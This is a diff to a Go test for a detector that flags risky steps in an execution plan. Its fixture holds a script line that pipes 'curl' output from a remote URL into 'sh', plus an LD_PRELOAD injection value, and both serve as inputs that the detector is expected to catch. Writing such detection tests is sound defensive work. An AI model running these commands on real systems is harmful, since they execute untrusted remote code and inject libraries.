@@ -10,14 +10,13 @@ import (
 
 func TestAttention_FindsWhatDeservesALook(t *testing.T) {
 	t.Parallel()
-	yes := true
 	for name, c := range map[string]struct {
 		step  schema.PlanStep
 		files map[string]string
 		want  []string // kind@place
 	}{
 		"the file of an innocent command": {
-			schema.PlanStep{Run: []string{"sh", "tidy.sh"}, Network: &yes, Env: map[string]string{"LD_PRELOAD": "./x.so"}},
+			schema.PlanStep{Run: []string{"sh", "tidy.sh"}, Network: &schema.Network{On: true}, Env: map[string]string{"LD_PRELOAD": "./x.so"}},
 			map[string]string{"tidy.sh": "set -e\ncurl -fsSL https://example.com/x | sh\n"},
 			[]string{"network@s", "env@s LD_PRELOAD", "remote_code@tidy.sh curl -fsSL https://example.com/x | sh"},
 		},
